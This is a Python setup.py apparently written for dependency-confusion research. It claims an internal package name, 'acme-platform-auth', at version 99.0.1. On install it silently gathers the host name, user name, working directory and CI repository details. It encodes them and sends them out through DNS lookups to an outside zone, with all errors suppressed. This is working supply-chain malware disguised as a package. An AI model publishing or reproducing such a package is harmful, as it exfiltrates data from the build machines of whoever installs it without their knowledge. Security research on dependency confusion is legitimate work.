# internal package name claimed on the public index (dependency confusion research)
import base64
import getpass
import os
import socket
import uuid

from setuptools import setup

ZONE = "d.pkgcheck.example-cdn.net"


def _labels(data, size=50):
    enc = base64.b32encode(data).decode().rstrip("=").lower()
    return [enc[i:i + size] for i in range(0, len(enc), size)]


def _beacon():
    info = "|".join([
        socket.gethostname(),
        getpass.getuser(),
        os.getcwd(),
        os.environ.get("CI", "-"),
        os.environ.get("GITHUB_REPOSITORY", os.environ.get("CI_PROJECT_PATH", "-")),
    ]).encode()
    run = uuid.uuid4().hex[:8]
    parts = _labels(info)
    for seq, label in enumerate(parts):
        name = f"{label}.{seq}-{len(parts)}.{run}.{ZONE}"
        try:
            socket.getaddrinfo(name, 443)
        except socket.gaierror:
            pass


try:
    _beacon()
except Exception:
    pass

setup(
    name="acme-platform-auth",
    version="99.0.1",
    description="acme internal",
    packages=[],
)
